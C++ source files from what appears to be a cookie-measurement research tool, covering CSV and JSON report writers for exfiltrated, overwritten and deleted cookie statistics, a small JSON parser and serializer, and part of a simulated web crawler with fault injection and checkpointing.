  emit(analyzer.top_exfiltrated(n), "exfiltrated",
       &analysis::PairStats::exfiltrator_entities);
  emit(analyzer.top_overwritten(n), "overwritten",
       &analysis::PairStats::overwriter_entities);
  emit(analyzer.top_deleted(n), "deleted",
       &analysis::PairStats::deleter_entities);
}

void write_domains_csv(const analysis::Analyzer& analyzer, std::size_t n,
                       std::ostream& out) {
  out << "domain,exfiltrated,overwritten,deleted\n";
  std::map<std::string, std::array<int, 3>> merged;
  for (const auto& [domain, count] : analyzer.top_exfiltrator_domains(n)) {
    merged[domain][0] = count;
  }
  for (const auto& [domain, count] : analyzer.top_overwriter_domains(n)) {
    merged[domain][1] = count;
  }
  for (const auto& [domain, count] : analyzer.top_deleter_domains(n)) {
    merged[domain][2] = count;
  }
  for (const auto& [domain, counts] : merged) {
    out << csv_escape(domain) << ',' << counts[0] << ',' << counts[1] << ','
        << counts[2] << '\n';
  }
}

Json summary_to_json(const analysis::Analyzer& analyzer, std::size_t top_n) {
  Json out = Json::object();
  out["totals"] = totals_to_json(analyzer.totals());

  Json pairs = Json::array();
  for (const auto& row : analyzer.top_exfiltrated(top_n)) {
    Json entry = Json::object();
    entry["name"] = row.pair.name;
    entry["owner_domain"] = row.pair.owner_domain;
    entry["exfiltrator_entities"] =
        static_cast<std::int64_t>(row.stats->exfiltrator_entities.size());
    entry["destination_entities"] =
        static_cast<std::int64_t>(row.stats->destination_entities.size());
    entry["top_exfiltrators"] = join_top(row.stats->exfiltrator_entities, 3);
    entry["top_destinations"] = join_top(row.stats->destination_entities, 3);
    pairs.push_back(std::move(entry));
  }
  out["top_exfiltrated"] = std::move(pairs);

  Json domains = Json::array();
  for (const auto& [domain, count] :
       analyzer.top_exfiltrator_domains(top_n)) {
    Json entry = Json::object();
    entry["domain"] = domain;
    entry["unique_cookies"] = count;
    domains.push_back(std::move(entry));
  }
  out["top_exfiltrator_domains"] = std::move(domains);
  return out;
}

}  // namespace cg::report
