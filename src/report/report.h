// Structured exports of crawl results: CSV tables and a JSON summary.
//
// The paper promises to "release the source code ... to support
// reproducibility and future research"; these writers make every
// aggregate the benches print available to downstream tooling.
#pragma once

#include <ostream>
#include <string>

#include "analysis/analyzer.h"
#include "report/json.h"

namespace cg::report {

/// One CSV cell, quoted/escaped per RFC 4180 when needed.
std::string csv_escape(std::string_view cell);

/// Dataset-level totals as a JSON object (everything in analysis::Totals
/// except the raw timing vectors, which are summarised).
Json totals_to_json(const analysis::Totals& totals);

/// Top-N exfiltrated/overwritten/deleted pairs as CSV:
/// name,owner_domain,action,entity_count,top_entities
void write_pairs_csv(const analysis::Analyzer& analyzer, std::size_t n,
                     std::ostream& out);

/// Per-domain manipulation counts (Figures 2/6 data) as CSV:
/// domain,exfiltrated,overwritten,deleted
void write_domains_csv(const analysis::Analyzer& analyzer, std::size_t n,
                       std::ostream& out);

/// Full machine-readable summary (totals + top pairs + top domains).
Json summary_to_json(const analysis::Analyzer& analyzer, std::size_t top_n);

}  // namespace cg::report
