#include "report/json.h"

#include <cmath>
#include <cstdio>

namespace cg::report {

std::string Json::escape(std::string_view raw) {
  std::string out;
  out.reserve(raw.size() + 2);
  for (const char c : raw) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\r':
        out += "\\r";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out.push_back(c);
        }
    }
  }
  return out;
}

void Json::dump_to(std::string& out, int depth, int indent) const {
  const std::string pad(static_cast<std::size_t>(depth) *
                            static_cast<std::size_t>(indent),
                        ' ');
  const std::string pad_in(static_cast<std::size_t>(depth + 1) *
                               static_cast<std::size_t>(indent),
                           ' ');
  const char* nl = indent > 0 ? "\n" : "";

  if (std::holds_alternative<std::nullptr_t>(value_)) {
    out += "null";
  } else if (const auto* b = std::get_if<bool>(&value_)) {
    out += *b ? "true" : "false";
  } else if (const auto* d = std::get_if<double>(&value_)) {
    if (std::isfinite(*d)) {
      char buf[32];
      std::snprintf(buf, sizeof(buf), "%.6g", *d);
      out += buf;
    } else {
      out += "null";
    }
  } else if (const auto* i = std::get_if<std::int64_t>(&value_)) {
    out += std::to_string(*i);
  } else if (const auto* s = std::get_if<std::string>(&value_)) {
    out += '"';
    out += escape(*s);
    out += '"';
  } else if (const auto* array = std::get_if<Array>(&value_)) {
    if (array->empty()) {
      out += "[]";
      return;
    }
    out += '[';
    out += nl;
    for (std::size_t j = 0; j < array->size(); ++j) {
      out += pad_in;
      (*array)[j].dump_to(out, depth + 1, indent);
      if (j + 1 < array->size()) out += ',';
      out += nl;
    }
    out += pad;
    out += ']';
  } else if (const auto* object = std::get_if<Object>(&value_)) {
    if (object->empty()) {
      out += "{}";
      return;
    }
    out += '{';
    out += nl;
    std::size_t j = 0;
    for (const auto& [key, value] : *object) {
      out += pad_in;
      out += '"';
      out += escape(key);
      out += "\":";
      if (indent > 0) out += ' ';
      value.dump_to(out, depth + 1, indent);
      if (++j < object->size()) out += ',';
      out += nl;
    }
    out += pad;
    out += '}';
  }
}

std::string Json::dump(int indent) const {
  std::string out;
  dump_to(out, 0, indent);
  return out;
}

}  // namespace cg::report
