#include "report/json.h"

#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>

namespace cg::report {

Json::Json(const Json&) = default;
Json::Json(Json&&) noexcept = default;
Json& Json::operator=(const Json&) = default;
Json& Json::operator=(Json&&) noexcept = default;
Json::~Json() = default;

namespace {

/// Recursive-descent parser over a string_view; fails by returning false
/// and leaving the cursor wherever the error was found.
class Parser {
 public:
  explicit Parser(std::string_view text) : text_(text) {}

  bool parse_document(Json& out) {
    skip_ws();
    if (!parse_value(out, /*depth=*/0)) return false;
    skip_ws();
    return pos_ == text_.size();  // trailing garbage is an error
  }

 private:
  static constexpr int kMaxDepth = 64;

  void skip_ws() {
    while (pos_ < text_.size() &&
           (text_[pos_] == ' ' || text_[pos_] == '\t' ||
            text_[pos_] == '\n' || text_[pos_] == '\r')) {
      ++pos_;
    }
  }

  bool consume(char c) {
    if (pos_ < text_.size() && text_[pos_] == c) {
      ++pos_;
      return true;
    }
    return false;
  }

  bool consume_literal(std::string_view word) {
    if (text_.substr(pos_, word.size()) != word) return false;
    pos_ += word.size();
    return true;
  }

  bool parse_value(Json& out, int depth) {
    if (depth > kMaxDepth || pos_ >= text_.size()) return false;
    switch (text_[pos_]) {
      case '{':
        return parse_object(out, depth);
      case '[':
        return parse_array(out, depth);
      case '"': {
        std::string s;
        if (!parse_string(s)) return false;
        out = Json(std::move(s));
        return true;
      }
      case 't':
        out = Json(true);
        return consume_literal("true");
      case 'f':
        out = Json(false);
        return consume_literal("false");
      case 'n':
        out = Json(nullptr);
        return consume_literal("null");
      default:
        return parse_number(out);
    }
  }

  bool parse_object(Json& out, int depth) {
    if (!consume('{')) return false;
    out = Json::object();
    skip_ws();
    if (consume('}')) return true;
    while (true) {
      skip_ws();
      std::string key;
      if (!parse_string(key)) return false;
      skip_ws();
      if (!consume(':')) return false;
      skip_ws();
      Json value;
      if (!parse_value(value, depth + 1)) return false;
      out[key] = std::move(value);
      skip_ws();
      if (consume(',')) continue;
      return consume('}');
    }
  }

  bool parse_array(Json& out, int depth) {
    if (!consume('[')) return false;
    out = Json::array();
    skip_ws();
    if (consume(']')) return true;
    while (true) {
      skip_ws();
      Json value;
      if (!parse_value(value, depth + 1)) return false;
      out.push_back(std::move(value));
      skip_ws();
      if (consume(',')) continue;
      return consume(']');
    }
  }

  bool parse_string(std::string& out) {
    if (!consume('"')) return false;
    out.clear();
    while (pos_ < text_.size()) {
      const char c = text_[pos_++];
      if (c == '"') return true;
      if (c != '\\') {
        out.push_back(c);
        continue;
      }
      if (pos_ >= text_.size()) return false;
      const char esc = text_[pos_++];
      switch (esc) {
        case '"': out.push_back('"'); break;
        case '\\': out.push_back('\\'); break;
        case '/': out.push_back('/'); break;
        case 'b': out.push_back('\b'); break;
        case 'f': out.push_back('\f'); break;
        case 'n': out.push_back('\n'); break;
        case 'r': out.push_back('\r'); break;
        case 't': out.push_back('\t'); break;
        case 'u': {
          if (pos_ + 4 > text_.size()) return false;
          unsigned code = 0;
          for (int i = 0; i < 4; ++i) {
            const char h = text_[pos_++];
            code <<= 4;
            if (h >= '0' && h <= '9') code |= static_cast<unsigned>(h - '0');
            else if (h >= 'a' && h <= 'f') code |= static_cast<unsigned>(h - 'a' + 10);
            else if (h >= 'A' && h <= 'F') code |= static_cast<unsigned>(h - 'A' + 10);
            else return false;
          }
          // UTF-8 encode the BMP code point (surrogate pairs are outside
          // the subset dump() emits and are rejected).
          if (code >= 0xD800 && code <= 0xDFFF) return false;
          if (code < 0x80) {
            out.push_back(static_cast<char>(code));
          } else if (code < 0x800) {
            out.push_back(static_cast<char>(0xC0 | (code >> 6)));
            out.push_back(static_cast<char>(0x80 | (code & 0x3F)));
          } else {
            out.push_back(static_cast<char>(0xE0 | (code >> 12)));
            out.push_back(static_cast<char>(0x80 | ((code >> 6) & 0x3F)));
            out.push_back(static_cast<char>(0x80 | (code & 0x3F)));
          }
          break;
        }
        default:
          return false;
      }
    }
    return false;  // unterminated string
  }

  bool parse_number(Json& out) {
    const std::size_t start = pos_;
    if (consume('-')) {}
    while (pos_ < text_.size() &&
           std::isdigit(static_cast<unsigned char>(text_[pos_]))) {
      ++pos_;
    }
    bool integral = true;
    if (pos_ < text_.size() &&
        (text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E')) {
      integral = false;
      while (pos_ < text_.size() &&
             (std::isdigit(static_cast<unsigned char>(text_[pos_])) ||
              text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E' ||
              text_[pos_] == '+' || text_[pos_] == '-')) {
        ++pos_;
      }
    }
    if (pos_ == start || (text_[start] == '-' && pos_ == start + 1)) {
      return false;
    }
    const std::string token(text_.substr(start, pos_ - start));
    char* end = nullptr;
    if (integral) {
      const long long v = std::strtoll(token.c_str(), &end, 10);
      if (end != token.c_str() + token.size()) return false;
      out = Json(static_cast<std::int64_t>(v));
    } else {
      const double v = std::strtod(token.c_str(), &end);
      if (end != token.c_str() + token.size()) return false;
      out = Json(v);
    }
    return true;
  }

  std::string_view text_;
  std::size_t pos_ = 0;
};

}  // namespace

std::optional<Json> Json::parse(std::string_view text) {
  Json out;
  Parser parser(text);
  if (!parser.parse_document(out)) return std::nullopt;
  return out;
}

const Json* Json::find(std::string_view key) const {
  const auto* object = std::get_if<Object>(&value_);
  if (object == nullptr) return nullptr;
  const auto it = object->find(std::string(key));
  return it != object->end() ? &it->second : nullptr;
}

std::size_t Json::size() const {
  if (const auto* array = std::get_if<Array>(&value_)) return array->size();
  if (const auto* object = std::get_if<Object>(&value_)) return object->size();
  return 0;
}

const Json& Json::at(std::size_t index) const {
  return std::get<Array>(value_).at(index);
}

std::int64_t Json::as_int(std::int64_t fallback) const {
  if (const auto* i = std::get_if<std::int64_t>(&value_)) return *i;
  if (const auto* d = std::get_if<double>(&value_)) {
    return static_cast<std::int64_t>(*d);
  }
  return fallback;
}

double Json::as_double(double fallback) const {
  if (const auto* d = std::get_if<double>(&value_)) return *d;
  if (const auto* i = std::get_if<std::int64_t>(&value_)) {
    return static_cast<double>(*i);
  }
  return fallback;
}

bool Json::as_bool(bool fallback) const {
  if (const auto* b = std::get_if<bool>(&value_)) return *b;
  return fallback;
}

std::string Json::as_string(std::string fallback) const {
  if (const auto* s = std::get_if<std::string>(&value_)) return *s;
  return fallback;
}

std::string Json::escape(std::string_view raw) {
  std::string out;
  out.reserve(raw.size() + 2);
  for (const char c : raw) {
    switch (c) {
      case '"':
        out += "\\\"";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '\n':
        out += "\\n";
        break;
      case '\r':
        out += "\\r";
        break;
      case '\t':
        out += "\\t";
        break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof(buf), "\\u%04x", c);
          out += buf;
        } else {
          out.push_back(c);
        }
    }
  }
  return out;
}

void Json::dump_to(std::string& out, int depth, int indent) const {
  const std::string pad(static_cast<std::size_t>(depth) *
                            static_cast<std::size_t>(indent),
                        ' ');
  const std::string pad_in(static_cast<std::size_t>(depth + 1) *
                               static_cast<std::size_t>(indent),
                           ' ');
  const char* nl = indent > 0 ? "\n" : "";

  if (std::holds_alternative<std::nullptr_t>(value_)) {
    out += "null";
  } else if (const auto* b = std::get_if<bool>(&value_)) {
    out += *b ? "true" : "false";
  } else if (const auto* d = std::get_if<double>(&value_)) {
    if (std::isfinite(*d)) {
      char buf[32];
      std::snprintf(buf, sizeof(buf), "%.6g", *d);
      out += buf;
    } else {
      out += "null";
    }
  } else if (const auto* i = std::get_if<std::int64_t>(&value_)) {
    out += std::to_string(*i);
  } else if (const auto* s = std::get_if<std::string>(&value_)) {
    out += '"';
    out += escape(*s);
    out += '"';
  } else if (const auto* array = std::get_if<Array>(&value_)) {
    if (array->empty()) {
      out += "[]";
      return;
    }
    out += '[';
    out += nl;
    for (std::size_t j = 0; j < array->size(); ++j) {
      out += pad_in;
      (*array)[j].dump_to(out, depth + 1, indent);
      if (j + 1 < array->size()) out += ',';
      out += nl;
    }
    out += pad;
    out += ']';
  } else if (const auto* object = std::get_if<Object>(&value_)) {
    if (object->empty()) {
      out += "{}";
      return;
    }
    out += '{';
    out += nl;
    std::size_t j = 0;
    for (const auto& [key, value] : *object) {
      out += pad_in;
      out += '"';
      out += escape(key);
      out += "\":";
      if (indent > 0) out += ' ';
      value.dump_to(out, depth + 1, indent);
      if (++j < object->size()) out += ',';
      out += nl;
    }
    out += pad;
    out += '}';
  }
}

std::string Json::dump(int indent) const {
  std::string out;
  dump_to(out, 0, indent);
  return out;
}

}  // namespace cg::report
