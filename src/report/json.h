// Minimal JSON value tree + serializer + parser (no external dependencies).
//
// Used by the report writers to dump crawl results in a machine-readable
// form, by the crawler's checkpoint/resume files, and by the cgsim CLI.
// Supports the JSON subset the library needs: objects, arrays, strings,
// doubles, integers, booleans, null. parse() round-trips everything dump()
// emits.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

namespace cg::report {

class Json {
 public:
  using Array = std::vector<Json>;
  using Object = std::map<std::string, Json>;

  Json() : value_(nullptr) {}
  Json(std::nullptr_t) : value_(nullptr) {}
  Json(bool b) : value_(b) {}
  Json(double d) : value_(d) {}
  Json(int i) : value_(static_cast<std::int64_t>(i)) {}
  Json(long long i) : value_(static_cast<std::int64_t>(i)) {}
  Json(std::int64_t i) : value_(i) {}
  Json(std::uint64_t i) : value_(static_cast<std::int64_t>(i)) {}
  Json(const char* s) : value_(std::string(s)) {}
  Json(std::string s) : value_(std::move(s)) {}
  Json(std::string_view s) : value_(std::string(s)) {}
  Json(Array a) : value_(std::move(a)) {}
  Json(Object o) : value_(std::move(o)) {}

  // Defined out-of-line (json.cpp): keeping the variant copy/move out of
  // callers' inlining scope avoids a spurious GCC 12 -Wmaybe-uninitialized
  // on moved-from temporaries that breaks warnings-as-errors builds.
  Json(const Json&);
  Json(Json&&) noexcept;
  Json& operator=(const Json&);
  Json& operator=(Json&&) noexcept;
  ~Json();

  static Json object() { return Json(Object{}); }
  static Json array() { return Json(Array{}); }

  /// Parses `text`; nullopt on any syntax error or trailing garbage.
  static std::optional<Json> parse(std::string_view text);

  bool is_object() const { return std::holds_alternative<Object>(value_); }
  bool is_array() const { return std::holds_alternative<Array>(value_); }
  bool is_string() const { return std::holds_alternative<std::string>(value_); }
  bool is_bool() const { return std::holds_alternative<bool>(value_); }
  bool is_null() const {
    return std::holds_alternative<std::nullptr_t>(value_);
  }
  bool is_number() const {
    return std::holds_alternative<double>(value_) ||
           std::holds_alternative<std::int64_t>(value_);
  }

  /// Object field access (creates the field; the Json must be an object).
  Json& operator[](const std::string& key) {
    return std::get<Object>(value_)[key];
  }

  /// Array append (the Json must be an array).
  void push_back(Json item) {
    std::get<Array>(value_).push_back(std::move(item));
  }

  // ---- read accessors (checkpoint/report consumers) --------------------

  /// Object member lookup; nullptr when missing or not an object.
  const Json* find(std::string_view key) const;
  /// Array / object element count; 0 for scalars.
  std::size_t size() const;
  /// Array element (the Json must be an array; bounds-checked).
  const Json& at(std::size_t index) const;

  std::int64_t as_int(std::int64_t fallback = 0) const;
  double as_double(double fallback = 0.0) const;
  bool as_bool(bool fallback = false) const;
  std::string as_string(std::string fallback = "") const;

  /// Serialises with 2-space indentation.
  std::string dump(int indent = 0) const;

  /// Escapes a string for embedding in JSON (exposed for tests).
  static std::string escape(std::string_view raw);

 private:
  void dump_to(std::string& out, int depth, int indent) const;

  std::variant<std::nullptr_t, bool, double, std::int64_t, std::string, Array,
               Object>
      value_;
};

}  // namespace cg::report
