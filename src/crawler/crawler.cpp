#include "crawler/crawler.h"

#include <algorithm>
#include <atomic>
#include <memory>
#include <utility>

#include "browser/page.h"
#include "instrument/recorder.h"
#include "runtime/sharded_runner.h"
#include "script/rng.h"
#include "store/chain.h"
#include "store/delta_codec.h"
#include "store/record_codec.h"
#include "store/writer.h"

namespace cg::crawler {
namespace {

/// Per-site deterministic seed: results do not depend on crawl order.
std::uint64_t visit_seed_for(std::uint64_t corpus_seed, int rank) {
  return corpus_seed ^
         (0x5EEDULL + static_cast<std::uint64_t>(rank) * 2654435761ULL);
}

/// Staggered virtual start of one attempt (see attempt_visit): rank spread
/// plus per-site jitter plus the accumulated retry backoff. Shared with the
/// trace emission so span timestamps match the browser clock exactly.
TimeMillis attempt_clock_start(const browser::BrowserConfig& config, int rank,
                               std::uint64_t visit_seed,
                               TimeMillis clock_shift_ms) {
  return config.clock_start + static_cast<TimeMillis>(rank) * 77'777 +
         static_cast<TimeMillis>(visit_seed % 37'000) + clock_shift_ms;
}

/// Histogram bounds for the deterministic crawl metrics (ms).
const std::vector<double>& visit_ms_bounds() {
  static const std::vector<double> bounds = {1'000,  2'000,  4'000,  8'000,
                                             16'000, 32'000, 64'000, 128'000};
  return bounds;
}

const std::vector<double>& backoff_ms_bounds() {
  static const std::vector<double> bounds = {60'000, 120'000, 240'000,
                                             480'000};
  return bounds;
}

report::Json class_counts_to_json(
    const std::array<int, fault::kFailureClassCount>& counts) {
  auto out = report::Json::object();
  for (int c = 0; c < fault::kFailureClassCount; ++c) {
    if (counts[c] > 0) {
      out[std::string(
          fault::failure_class_name(static_cast<fault::FailureClass>(c)))] =
          counts[c];
    }
  }
  return out;
}

void class_counts_from_json(const report::Json* node,
                            std::array<int, fault::kFailureClassCount>& counts) {
  counts.fill(0);
  if (node == nullptr) return;
  for (int c = 0; c < fault::kFailureClassCount; ++c) {
    const auto* entry = node->find(
        fault::failure_class_name(static_cast<fault::FailureClass>(c)));
    if (entry != nullptr) counts[c] = static_cast<int>(entry->as_int());
  }
}

CrawlHealth health_from_json(const report::Json& j) {
  CrawlHealth health;
  const auto read_int = [&j](std::string_view key) {
    const auto* node = j.find(key);
    return node != nullptr ? static_cast<int>(node->as_int()) : 0;
  };
  health.sites_attempted = read_int("sites_attempted");
  health.sites_retained = read_int("sites_retained");
  health.sites_excluded = read_int("sites_excluded");
  health.sites_degraded = read_int("sites_degraded");
  health.sites_recovered = read_int("sites_recovered");
  health.total_attempts = read_int("total_attempts");
  health.total_retries = read_int("total_retries");
  class_counts_from_json(j.find("attempt_failures"), health.attempt_failures);
  class_counts_from_json(j.find("exclusions"), health.exclusions);
  if (const auto* ranks = j.find("retained_ranks"); ranks && ranks->is_array()) {
    health.retained_ranks.reserve(ranks->size());
    for (std::size_t i = 0; i < ranks->size(); ++i) {
      health.retained_ranks.push_back(static_cast<int>(ranks->at(i).as_int()));
    }
  }
  return health;
}

}  // namespace

void CrawlHealth::merge(const CrawlHealth& other) {
  sites_attempted += other.sites_attempted;
  sites_retained += other.sites_retained;
  sites_excluded += other.sites_excluded;
  sites_degraded += other.sites_degraded;
  sites_recovered += other.sites_recovered;
  total_attempts += other.total_attempts;
  total_retries += other.total_retries;
  for (int c = 0; c < fault::kFailureClassCount; ++c) {
    attempt_failures[c] += other.attempt_failures[c];
    exclusions[c] += other.exclusions[c];
  }
  retained_ranks.insert(retained_ranks.end(), other.retained_ranks.begin(),
                        other.retained_ranks.end());
}

report::Json CrawlHealth::to_json() const {
  auto j = report::Json::object();
  j["sites_attempted"] = sites_attempted;
  j["sites_retained"] = sites_retained;
  j["sites_excluded"] = sites_excluded;
  j["sites_degraded"] = sites_degraded;
  j["sites_recovered"] = sites_recovered;
  j["total_attempts"] = total_attempts;
  j["total_retries"] = total_retries;
  j["exclusion_rate"] = exclusion_rate();
  j["recovery_rate"] = recovery_rate();
  j["attempt_failures"] = class_counts_to_json(attempt_failures);
  j["exclusions"] = class_counts_to_json(exclusions);
  auto ranks = report::Json::array();
  for (const int rank : retained_ranks) ranks.push_back(rank);
  j["retained_ranks"] = std::move(ranks);
  return j;
}

std::string CrawlCheckpoint::to_json_string() const {
  auto j = report::Json::object();
  j["version"] = 2;
  j["next_index"] = next_index;
  j["target_count"] = target_count;
  j["corpus_seed"] = corpus_seed;
  j["fault_seed"] = fault_seed;
  j["threads"] = threads;
  if (archive_sites >= 0) {
    auto archive = report::Json::object();
    archive["sites"] = archive_sites;
    archive["bytes"] = archive_bytes;
    j["archive"] = std::move(archive);
  }
  if (!shard_completed.empty()) {
    auto shards = report::Json::array();
    for (const int done : shard_completed) shards.push_back(done);
    j["shard_completed"] = std::move(shards);
  }
  j["health"] = health.to_json();
  return j.dump(2);
}

std::optional<CrawlCheckpoint> CrawlCheckpoint::from_json_string(
    std::string_view text) {
  const auto parsed = report::Json::parse(text);
  if (!parsed || !parsed->is_object()) return std::nullopt;
  const auto* next_index = parsed->find("next_index");
  const auto* target_count = parsed->find("target_count");
  const auto* health = parsed->find("health");
  if (!next_index || !target_count || !health || !health->is_object()) {
    return std::nullopt;
  }
  CrawlCheckpoint checkpoint;
  checkpoint.next_index = static_cast<int>(next_index->as_int());
  checkpoint.target_count = static_cast<int>(target_count->as_int());
  if (const auto* seed = parsed->find("corpus_seed")) {
    checkpoint.corpus_seed = static_cast<std::uint64_t>(seed->as_int());
  }
  if (const auto* seed = parsed->find("fault_seed")) {
    checkpoint.fault_seed = static_cast<std::uint64_t>(seed->as_int());
  }
  if (const auto* threads = parsed->find("threads")) {
    checkpoint.threads = static_cast<int>(threads->as_int());
  }
  if (const auto* archive = parsed->find("archive");
      archive != nullptr && archive->is_object()) {
    if (const auto* sites = archive->find("sites")) {
      checkpoint.archive_sites = static_cast<int>(sites->as_int());
    }
    if (const auto* bytes = archive->find("bytes")) {
      checkpoint.archive_bytes = bytes->as_int();
    }
  }
  if (const auto* shards = parsed->find("shard_completed");
      shards != nullptr && shards->is_array()) {
    checkpoint.shard_completed.reserve(shards->size());
    for (std::size_t i = 0; i < shards->size(); ++i) {
      checkpoint.shard_completed.push_back(
          static_cast<int>(shards->at(i).as_int()));
    }
  }
  if (checkpoint.next_index < 0 || checkpoint.target_count < 0 ||
      checkpoint.next_index > checkpoint.target_count) {
    return std::nullopt;
  }
  checkpoint.health = health_from_json(*health);
  return checkpoint;
}

fault::FaultPlan Crawler::plan_for(const CrawlOptions& options) const {
  if (!options.fault_plan.has_value()) return {};
  // Key the plan off the corpus seed so distinct corpora fail differently
  // under the same plan parameters.
  fault::FaultPlanParams params = *options.fault_plan;
  params.seed ^= corpus_.params().seed;
  return fault::FaultPlan(params);
}

instrument::VisitLog Crawler::attempt_visit(
    const corpus::SiteVisit& visit, const CrawlOptions& options,
    const fault::FaultDecision& decision,
    const std::vector<browser::Extension*>& extensions,
    TimeMillis clock_shift_ms, int attempt) const {
  const auto& bp = *visit.blueprint;
  const auto& params = corpus_.params();
  const std::uint64_t visit_seed = visit_seed_for(params.seed, bp.rank);

  // Stagger visit start times: the paper's crawl spans days, and identifier
  // timestamps embedded in cookie values must differ across visits. Retry
  // backoff shifts the clock further.
  browser::BrowserConfig browser_config = options.browser_config;
  browser_config.clock_start = attempt_clock_start(
      options.browser_config, bp.rank, visit_seed, clock_shift_ms);

  if (decision.active()) {
    obs::instant(obs::Detail::kCrawl, "fault",
                 fault::failure_class_name(decision.cls),
                 browser_config.clock_start);
  }

  browser::Browser browser(browser_config, visit_seed);
  browser.set_policy(&policy::engine_for(options.policy));
  corpus::attach_site(browser, bp, visit.catalog.get());

  instrument::VisitLog log;
  log.rank = bp.rank;
  log.attempts = attempt + 1;

  fault::VisitFaults faults(
      decision, bp.host,
      visit_seed ^ (0xFA017ULL +
                    static_cast<std::uint64_t>(attempt) * 0x9E3779B97F4A7C15ULL));
  if (decision.active()) {
    if (faults.dns_fails()) {
      browser.dns().inject_failure(bp.host, net::DnsStatus::kNxDomain);
    }
    browser.network().set_fault_hook(
        [&faults](const net::HttpRequest& request) {
          return faults.on_request(request);
        });
    browser.network().set_response_hook(
        [&faults](const net::HttpRequest& request,
                  net::HttpResponse& response) {
          faults.on_response(request, response);
        });
  }

  instrument::Recorder recorder(options.attribution);
  recorder.set_visit_log(&log);
  for (auto* extension : extensions) {
    browser.add_extension(extension);
  }
  browser.add_extension(&recorder);

  const TimeMillis visit_start = browser.clock().now();
  const auto deadline_blown = [&] {
    return options.visit_deadline_ms > 0 &&
           browser.clock().now() - visit_start > options.visit_deadline_ms;
  };
  bool recorder_crashed = false;

  const net::Url landing = net::Url::must_parse("https://" + bp.host + "/");
  auto page = browser.navigate(landing);
  if (!page) {
    log.failure = page.failure;
  } else if (deadline_blown()) {
    log.failure = fault::FailureClass::kDeadlineExceeded;
  } else {
    page->simulate_scroll();

    // Up to three random link clicks with 2 s pauses (§4.2).
    for (int click = 0; click < params.max_clicks; ++click) {
      const auto& links = page->spec().link_paths;
      if (links.empty()) break;
      browser.clock().advance(params.interaction_pause_ms);

      // The extension crash kills the recorder before the first page past
      // its survival index; already-buffered pages stay recorded.
      const int next_page = click + 1;
      if (decision.cls == fault::FailureClass::kExtensionCrash &&
          next_page > decision.crash_after_page && !recorder_crashed) {
        recorder.set_visit_log(nullptr);
        recorder_crashed = true;
      }

      const auto& path = links[browser.rng().below(links.size())];
      auto next = browser.navigate(landing.resolve(path));
      if (!next) {
        log.failure = next.failure;
        break;
      }
      page = std::move(next);
      page->simulate_scroll();
      if (deadline_blown()) {
        log.failure = fault::FailureClass::kDeadlineExceeded;
        break;
      }
    }
  }

  // Post-visit fault effects on the buffered logs. The background service
  // drops a channel whose buffer the fault corrupted — truncated Set-Cookie
  // headers poison the cookie log; a crash loses whichever channel was
  // still buffered client-side.
  if (log.failure == fault::FailureClass::kNone) {
    switch (decision.cls) {
      case fault::FailureClass::kTruncatedHeaders:
        log.has_cookie_logs = false;
        log.failure = decision.cls;
        break;
      case fault::FailureClass::kExtensionCrash:
        if (decision.crash_loses_cookie_channel) {
          log.has_cookie_logs = false;
        } else {
          log.has_request_logs = false;
        }
        log.failure = decision.cls;
        break;
      case fault::FailureClass::kSubresourceFailure:
        log.failure = decision.cls;
        break;
      case fault::FailureClass::kNone:
      case fault::FailureClass::kDnsFailure:       // visit died before logging
      case fault::FailureClass::kConnectTimeout:   // visit died before logging
      case fault::FailureClass::kDeadlineExceeded: // recorded by the deadline path
      case fault::FailureClass::kIncompleteLogs:   // diagnosed by the net below
      case fault::FailureClass::kStorageFailure:   // assigned at archive-write time
        break;
    }
  }

  // Safety net: a log missing a channel with no recorded cause is still
  // unusable for analysis.
  if (log.failure == fault::FailureClass::kNone &&
      !(log.has_cookie_logs && log.has_request_logs)) {
    log.failure = fault::FailureClass::kIncompleteLogs;
  }

  // Visits that died before any page finished never met the recorder; name
  // the site anyway so partial logs are attributable.
  if (log.site_host.empty()) log.site_host = bp.host;
  if (log.site.empty()) log.site = bp.site;

  const TimeMillis visit_end = browser.clock().now();
  obs::span(obs::Detail::kCrawl, "crawl", "attempt", visit_start,
            visit_end - visit_start);
  if (log.failure != fault::FailureClass::kNone &&
      obs::armed(obs::Detail::kCrawl)) {
    obs::instant(obs::Detail::kCrawl, "crawl", "attempt_failed", visit_end,
                 std::string(fault::failure_class_name(log.failure)));
  }
  if (obs::MetricsRegistry* m = obs::metrics()) {
    m->observe("crawl.visit_ms", visit_ms_bounds(),
               static_cast<double>(visit_end - visit_start));
  }
  return log;
}

instrument::VisitLog Crawler::visit(int index,
                                    const CrawlOptions& options) const {
  // A single clean visit: the measurement content of a site, independent of
  // crawl-pipeline weather. Faults only apply through crawl().
  return attempt_visit(corpus_.site_visit(index), options,
                       fault::FaultDecision{}, options.extra_extensions,
                       /*clock_shift_ms=*/0, /*attempt=*/0);
}

SiteOutcome Crawler::crawl_site(
    int index, const CrawlOptions& options, const fault::FaultPlan& plan,
    const std::vector<browser::Extension*>& extensions) const {
  // One fetch per site: streaming providers generate the blueprint here and
  // free it when `visit` leaves scope at the end of the retry loop.
  const corpus::SiteVisit visit = corpus_.site_visit(index);
  const auto& bp = *visit.blueprint;
  const int max_retries = std::max(options.max_retries, 0);
  const std::uint64_t backoff_seed =
      plan.enabled() ? plan.params().seed : corpus_.params().seed;

  SiteOutcome outcome;
  // Bind this site's observability sinks to the executing thread for the
  // whole retry loop: every layer underneath (event loop, navigation,
  // CookieGuard) emits through the thread-local scope without plumbing.
  // Track rank+1 — track 0 is the merge thread's driver lane.
  if (options.trace != nullptr || options.metrics != nullptr) {
    outcome.obs = std::make_unique<obs::LocalObs>();
    if (options.trace != nullptr) {
      options.trace->arm(*outcome.obs, bp.rank + 1,
                         options.metrics != nullptr);
    } else {
      outcome.obs->metrics_enabled = true;
    }
  }
  obs::ObsScope obs_scope(outcome.obs.get());

